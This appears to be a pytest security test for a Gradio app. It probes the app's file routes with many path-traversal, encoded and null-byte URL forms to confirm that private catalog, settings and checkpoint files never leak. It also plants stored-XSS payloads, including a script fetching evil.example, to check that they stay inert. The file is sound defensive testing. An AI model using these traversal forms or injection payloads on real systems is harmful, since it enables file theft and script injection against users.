"""What the running app serves over HTTP (issue 21, items 2 and 3), tried as an attacker would.

`python app.py` runs on 127.0.0.1 over a copy of the test repository. Every URL form Gradio's file
routes accept (absolute, relative, traversal, URL-encoded, double-encoded, `file://`, the deprecated
route, the static routes) is sent raw (no client-side path normalization) for the catalog, Chroma's
sqlite file, settings.json and a checkpoint; none may come back. The previews the page shows must
still load, and every image the page references must be served as an image: the store also holds a
preview written as `.html` (what the old thumbnail bug left in existing stores), which must never
reach a browser as HTML.
"""

from __future__ import annotations

import http.client
import json
import os
import sqlite3
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest

from test_app_served import CHROMIUM, CHROMIUM_ARGS, ROOT, WAIT_MS, running_app, served_copy
from test_app_service import TINY_STEPS, app_assets  # noqa: F401

pytestmark = pytest.mark.slow

HOSTILE_DESCRIPTION = ("![](http://evil.example/md.png) <img src=http://evil.example/tag.png> "
                       "<script>fetch('http://evil.example/js')</script> watercolor dog")
HOSTILE_PREVIEW = b"<html><body><script>document.title='owned'</script></body></html>"


def _add_html_preview(home: Path, checkpoint_id: str) -> Path:
    """A second preview of `checkpoint_id` stored as HTML, written straight into the catalog."""
    preview = home / "previews" / checkpoint_id / "1.html"
    preview.parent.mkdir(parents=True, exist_ok=True)
    preview.write_bytes(HOSTILE_PREVIEW)
    with sqlite3.connect(home / "catalog.db") as db:
        db.execute("INSERT INTO checkpoint_value (checkpoint_id, field, position, value) VALUES (?, 'preview', 1, ?)",
                   (checkpoint_id, f"previews/{checkpoint_id}/1.html"))
    return preview


@pytest.fixture(scope="module")
def served(app_assets, tmp_path_factory):  # noqa: F811
    home = served_copy(app_assets, tmp_path_factory, "http-home")
    (home / "settings.json").write_text(json.dumps({"steps": TINY_STEPS, "base_model": str(app_assets["base"])}))
    _add_html_preview(home, "dog-v1")
    with sqlite3.connect(home / "catalog.db") as db:  # a stranger's description, shown in dog-v1's detail pane
        db.execute("UPDATE checkpoint SET description = ? WHERE id = 'dog-v1'", (HOSTILE_DESCRIPTION,))
    with running_app(home, app_assets["base"]) as url:
        yield url, home


def _get(url: str, raw_path: str) -> tuple[int, dict, bytes]:
    """GET `raw_path` exactly as written: no client collapses `..` or re-encodes anything."""
    parts = urlsplit(url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    try:
        connection.putrequest("GET", raw_path, skip_accept_encoding=True)
        connection.endheaders()
        response = connection.getresponse()
        return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
    finally:
        connection.close()


def _url_forms(target: Path, cache_dir: str) -> list[str]:
    """Every way we know to name `target` to Gradio's file routes."""
    absolute = str(target)
    bare = absolute.lstrip("/")
    up = "../" * 16
    relative_to_cwd = os.path.relpath(absolute, ROOT)
    names = [absolute, "/" + absolute, relative_to_cwd, up + bare, f"{cache_dir}/{up}{bare}", f"file://{absolute}",
             quote(absolute, safe=""), quote(quote(absolute, safe=""), safe=""), quote(relative_to_cwd, safe=""),
             quote(f"{cache_dir}/{up}{bare}", safe=""), (f"{cache_dir}/" + "%2e%2e%2f" * 16 + bare),
             "..%2f" * 16 + quote(bare), absolute.replace("/", "//"), absolute + "%00.png"]
    forms = []
    for name in names:
        forms += [f"/gradio_api/file={name}", f"/file={name}", f"/gradio_api/file/{name}", f"/file/{name}",
                  f"/gradio_api/proxy={name}"]
    forms += [f"{route}{'..%2f' * 16}{quote(bare)}" for route in ("/static/", "/assets/", "/gradio_api/static/",
                                                                   "/gradio_api/assets/", "/svelte/", "/custom_component/")]
    forms += [f"{route}{up}{bare}" for route in ("/static/", "/assets/", "/gradio_api/static/")]
    return forms


def _page_images(url: str) -> dict[str, list[str]]:
    """The image URLs the page shows: the repository gallery, and dog-v1's detail previews."""
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        requested = []
        page.on("request", lambda request: requested.append(request.url))
        page.set_default_timeout(WAIT_MS)
        expect.set_options(timeout=WAIT_MS)
        page.goto(url)
        page.get_by_role("tab", name="Repository").click()
        page.click("#repo-filter")
        gallery = page.locator("#repo-gallery img")
        expect(gallery.first).to_be_visible()
        found = {"gallery": [img.get_attribute("src") for img in gallery.all()]}
        page.locator("#repo-gallery button.thumbnail-item", has_text="dog-v1").click()
        expect(page.locator("#repo-detail")).to_contain_text("dog-v1")
        detail = page.locator("#repo-detail-previews img")
        expect(detail).to_have_count(2)
        found["detail"] = [img.get_attribute("src") for img in detail.all()]
        expect(page.locator("#repo-detail")).to_contain_text("![](http://evil.example/md.png)")  # shown as text
        found["detail pane elements"] = [page.locator("#repo-detail img, #repo-detail script").count()]
        found["title"] = [page.title()]
        found["requested"] = requested
        browser.close()
    return found


@pytest.mark.browser
def test_previews_show_as_images_and_no_url_serves_catalog_chroma_settings_or_a_checkpoint(served):
    from PIL import Image
    import io

    url, home = served
    shown = _page_images(url)
    assert len(shown["gallery"]) >= 3 and shown["title"] != ["owned"]
    assert shown["detail pane elements"] == [0]
    assert {urlsplit(u).hostname for u in shown["requested"]} == {"127.0.0.1"}, "the page fetched an outside URL"
    cache_dir = None
    for src in shown["gallery"] + shown["detail"]:
        path = urlsplit(src).path + (f"?{urlsplit(src).query}" if urlsplit(src).query else "")
        status, headers, body = _get(url, path)
        assert status == 200, src
        assert headers["content-type"].split(";")[0] in {"image/png", "image/webp", "image/jpeg"}, (src, headers)
        assert HOSTILE_PREVIEW not in body
        Image.open(io.BytesIO(body)).load()  # a real, decodable image
        cache_dir = str(Path(urlsplit(src).path.split("file=", 1)[1]).parent.parent)

    secrets = {"catalog.db": home / "catalog.db", "settings.json": home / "settings.json",
               "chroma": next(home.rglob("*.sqlite3")), "checkpoint": next(home.rglob("*.safetensors")),
               "html preview": home / "previews" / "dog-v1" / "1.html"}
    leaks = []
    for name, target in secrets.items():
        marker = target.read_bytes()[:64]
        for form in _url_forms(target, cache_dir):
            status, headers, body = _get(url, form)
            if status == 200 and marker in body:
                leaks.append(f"{name}: {form}")
    assert not leaks, f"{len(leaks)} URL(s) served a private file, e.g. {leaks[:5]}"


def test_a_visitors_own_html_upload_never_comes_back_as_html(served):
    """Gradio's upload route takes any file; what it serves back from its cache is never HTML."""
    import httpx

    url, _ = served
    uploaded = httpx.post(f"{url}gradio_api/upload", files={"files": ("x.html", HOSTILE_PREVIEW, "text/html")}).json()
    status, headers, _ = _get(url, f"/gradio_api/file={uploaded[0]}")
    assert status != 200 or (headers["content-type"].startswith("application/octet-stream")
                             and headers.get("content-disposition", "").startswith("attachment"))
